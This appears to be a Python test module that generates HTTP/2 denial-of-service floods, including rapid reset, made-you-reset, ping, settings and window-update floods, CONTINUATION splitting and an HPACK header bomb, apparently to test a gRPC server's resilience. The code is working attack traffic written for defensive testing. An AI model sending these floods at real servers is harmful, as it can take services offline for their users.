"""Floods: what an attacker writes, frame by frame, as fast as the server takes it."""

from collections.abc import Callable, Iterator
from itertools import count

from hpack import Encoder

from tests.service.grpc.raw import frame, framed, grpc_headers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
_BATCH = 100
TRACK = "/firewalker.step.v1.StepService/TrackSteps"

Flood = Iterator[bytes]


class Heads:
    """Opens streams of one connection: the first with all headers spelled out, the next by reference."""

    def __init__(self, path: str = TRACK) -> None:
        encoder = Encoder()
        self._first = encoder.encode(grpc_headers(path))
        self._next = encoder.encode(grpc_headers(path))
        self._ids = count(1, 2)

    def open(self, flags: int = END_HEADERS) -> tuple[int, bytes]:
        stream = next(self._ids)
        return stream, frame(HEADERS, flags, stream, self._first if stream == 1 else self._next)


def on_each_stream(then: Callable[[int], bytes], flags: int = END_HEADERS) -> Callable[[], Flood]:
    """Open a stream, do *then* to it, open the next one."""

    def flood() -> Flood:
        heads = Heads()
        while True:
            batch = b""
            for _ in range(_BATCH):
                stream, head = heads.open(flags)
                batch += head + then(stream)
            yield batch

    return flood


def again_and_again(one: bytes) -> Callable[[], Flood]:
    """The same frame, which belongs to no stream."""

    def flood() -> Flood:
        while True:
            yield one * _BATCH

    return flood


def on_one_stream(
    each: Callable[[int], bytes], *, first: Callable[[int], bytes] = lambda _: b""
) -> Callable[[], Flood]:
    """Open one stream, send *first* on it, then *each* without end."""

    def flood() -> Flood:
        stream, head = Heads().open()
        yield head + first(stream)
        while True:
            yield each(stream) * _BATCH

    return flood


def reset(stream: int) -> bytes:
    return frame(RESET, 0, stream, (8).to_bytes(4, "big"))


def window_update(stream: int, size: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, size.to_bytes(4, "big"))


def continued_blocks() -> Flood:
    """Each head in 21 pieces, most of them empty."""
    encoder = Encoder()
    for stream in count(1, 2):
        block = encoder.encode(grpc_headers(TRACK))
        pieces = frame(CONTINUATION, 0, stream, b"") * 20 + frame(CONTINUATION, END_HEADERS, stream, b"")
        yield frame(HEADERS, 0, stream, block) + pieces + reset(stream)


def header_bomb() -> Flood:
    """A table entry of almost 4 KiB, referred to 14 times by each request: 20 bytes that stand for 55 KiB."""
    encoder = Encoder()
    for stream in count(1, 2):
        pairs = [*grpc_headers(TRACK), *[("x", "y" * 4_000)] * 14]
        yield frame(HEADERS, END_HEADERS, stream, encoder.encode(pairs)) + reset(stream)


ABANDONED = "streams opened and abandoned"
"""The one flood that h2 ends by itself, over the first stream above its limit, with all calls on the connection."""

FLOODS: dict[str, Callable[[], Flood]] = {
    "rapid reset": on_each_stream(reset),
    "made-you-reset by a window over its size": on_each_stream(lambda stream: window_update(stream, 2**31 - 1)),
    "made-you-reset by data after the end": on_each_stream(
        lambda stream: frame(DATA, 0, stream, b"x"), END_HEADERS | END_STREAM
    ),
    ABANDONED: on_each_stream(lambda _: b""),
    "pings": again_and_again(frame(PING, 0, 0, b"12345678")),
    "settings": again_and_again(frame(SETTINGS, 0, 0, b"")),
    "priorities": again_and_again(frame(PRIORITY, 0, 1, bytes(5))),
    "window updates of the connection": again_and_again(window_update(0, 1)),
    "window updates of a stream": on_one_stream(lambda stream: window_update(stream, 1)),
    "empty data": on_one_stream(lambda stream: frame(DATA, 0, stream, b"")),
    "data in crumbs": on_one_stream(
        lambda stream: frame(DATA, 0, stream, b"x"),
        first=lambda stream: frame(DATA, 0, stream, framed(b"", length=60_000)),
    ),
    "data for a stream that is over": on_one_stream(lambda stream: frame(DATA, 0, stream, b"x"), first=reset),
    "window updates for a stream that is over": on_one_stream(lambda s: window_update(s, 1), first=reset),
    "resets of a stream that is over": on_one_stream(reset, first=reset),
    "continuations": continued_blocks,
    "header bomb": header_bomb,
}
